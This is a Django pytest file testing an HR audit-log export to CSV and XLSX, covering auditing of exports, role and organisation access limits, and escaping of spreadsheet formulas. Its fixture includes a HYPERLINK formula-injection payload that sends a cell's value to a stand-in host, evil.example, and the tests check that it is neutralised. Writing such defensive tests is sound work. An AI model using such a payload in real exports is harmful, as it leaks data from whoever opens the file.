"""HR admins download the filtered audit log as CSV or XLSX; the download is
itself audited, formulas are neutralised, and nobody else can export."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group

from bewigan.core.models import AuditEntry
from bewigan.core.services import audit_record
from bewigan.core.spreadsheets import safe_cell

pytestmark = pytest.mark.django_db
URL = "/people/audit/export/"


@pytest.fixture
def entries(hr_admin, staff, line_manager, outsider):
    return [
        audit_record(
            actor=line_manager,
            action="view",
            obj=staff.person,
            subject=staff,
            reason="My time review",
            details={"section": "record"},
        ),
        audit_record(
            actor=staff, action="update", object_type="appraisals.conversation", object_id=7
        ),
        audit_record(
            actor=outsider,
            action="view",
            obj=outsider.person,
            subject=outsider,
            reason="Outsider secret",
        ),
        audit_record(
            actor=line_manager,
            action="view",
            object_type="recruitment.candidate",
            object_id=3,
            subject=staff,
            reason='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        ),
    ]


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_csv_holds_the_filtered_entries_and_the_export_is_audited(
    client_for, hr_admin, staff, entries
):
    client = client_for(hr_admin)
    response = client.post(f"{URL}?subject=staff@wigan.gov.uk&action=view", {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="audit-log-')
    rows = _csv(response)
    assert rows[0][:4] == ["When (UK time)", "Done by", "Done by (email)", "Action"]
    body = rows[1:]
    assert len(body) == 2
    reasons = {r[9] for r in body}
    assert "My time review" in reasons
    assert all(r[8] == "staff@wigan.gov.uk" and r[3] == "Viewed" for r in body)
    assert "Outsider secret" not in str(rows)
    assert '{"section": "record"}' in str(body)

    export = AuditEntry.objects.filter(action="export").get()
    assert export.actor == hr_admin
    assert export.subject == staff  # filtered to one person: recorded as about them
    assert export.object_type == "core.auditentry"
    assert export.details["format"] == "csv" and export.details["entries"] == 2
    assert export.details["filters"] == {"subject": "staff@wigan.gov.uk", "action": "view"}
    # The export shows up in the log, and the next export includes it.
    assert "Audit log export (CSV, 2 entries)" in client.get("/people/audit/").content.decode()
    rows = _csv(client.post(URL, {"format": "csv"}))
    assert any("Audit log export (CSV, 2 entries)" in r for r in rows)


def test_unfiltered_export_has_no_subject(client_for, hr_admin, entries):
    rows = _csv(client_for(hr_admin).post(URL, {"format": "csv"}))
    assert len(rows) == 1 + 3  # not the other organisation's entry
    assert AuditEntry.objects.get(action="export").subject is None


def test_xlsx_export(client_for, hr_admin, entries):
    response = client_for(hr_admin).post(
        f"{URL}?object_type=recruitment.candidate", {"format": "xlsx"}
    )
    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][0] == "When (UK time)"
    assert len(values) == 2
    assert values[1][4] == "recruitment.candidate" and values[1][5] == "3"
    assert AuditEntry.objects.get(action="export").details["format"] == "xlsx"


def test_formula_injection_is_neutralised(client_for, hr_admin, entries):
    client = client_for(hr_admin)
    rows = _csv(client.post(URL, {"format": "csv"}))
    evil = [r for r in rows if "HYPERLINK" in r[9]]
    assert evil and evil[0][9].startswith("'=HYPERLINK")
    sheet = openpyxl.load_workbook(io.BytesIO(client.post(URL, {"format": "xlsx"}).content)).active
    cells = [c.value for row in sheet.iter_rows() for c in row if c.value]
    evil = [c for c in cells if isinstance(c, str) and "HYPERLINK" in c]
    assert evil and evil[0].startswith("'=")
    # and nothing in the workbook is stored as a formula
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+44 1942", "'+44 1942"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =cmd", "'  =cmd"),
        ("\tx", "'\tx"),
        ("Plain text", "Plain text"),
        (7, 7),
        (None, ""),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_export_needs_post(client_for, hr_admin, entries):
    assert client_for(hr_admin).get(URL).status_code == 405
    assert not AuditEntry.objects.filter(action="export").exists()


def test_unknown_format_is_refused(client_for, hr_admin, entries):
    assert client_for(hr_admin).post(URL, {"format": "pdf"}).status_code == 400
    assert not AuditEntry.objects.filter(action="export").exists()


def test_invalid_filters_send_back_to_the_log(client_for, hr_admin, entries):
    response = client_for(hr_admin).post(f"{URL}?date_from=nonsense", {"format": "csv"})
    assert response.status_code == 302
    assert response["Location"] == "/people/audit/?date_from=nonsense"
    assert not AuditEntry.objects.filter(action="export").exists()


def test_too_many_rows_for_xlsx(client_for, hr_admin, entries, monkeypatch):
    from bewigan.people import views_admin

    monkeypatch.setattr(views_admin, "AUDIT_XLSX_MAX_ROWS", 2)
    client = client_for(hr_admin)
    response = client.post(URL, {"format": "xlsx"}, follow=True)
    assert "too many for a spreadsheet" in response.content.decode()
    assert not AuditEntry.objects.filter(action="export").exists()
    assert "Download as spreadsheet" not in client.get("/people/audit/").content.decode()
    assert client.post(URL, {"format": "csv"}).status_code == 200


@pytest.mark.parametrize(
    "persona", ["staff", "line_manager", "survey_admin", "recruiting_manager", "comms_editor"]
)
def test_others_cannot_export(request, client_for, entries, persona):
    user = request.getfixturevalue(persona)
    assert client_for(user).post(URL, {"format": "csv"}).status_code == 403
    assert not AuditEntry.objects.filter(action="export").exists()


def test_hr_admin_of_another_organisation_exports_only_theirs(
    client_for, outsider, entries, settings
):
    outsider.groups.add(Group.objects.get(name="HR admin"))
    settings.BEWIGAN_MFA_EXEMPT_EMAILS = [outsider.email]
    rows = _csv(client_for(outsider).post(URL, {"format": "csv"}))
    assert len(rows) == 2
    assert rows[1][9] == "Outsider secret"
    text = str(rows)
    assert "staff@wigan.gov.uk" not in text and "My time review" not in text


def test_export_streams_at_constant_query_count(
    client_for, hr_admin, staff, entries, django_assert_max_num_queries
):
    client = client_for(hr_admin)
    _csv(client.post(URL, {"format": "csv"}))
    with django_assert_max_num_queries(30) as few:
        _csv(client.post(URL, {"format": "csv"}))
    for i in range(150):
        audit_record(actor=staff, action="view", obj=staff.person, subject=staff, reason=f"r{i}")
    with django_assert_max_num_queries(len(few.captured_queries)):
        rows = _csv(client.post(URL, {"format": "csv"}))
    assert len(rows) > 150
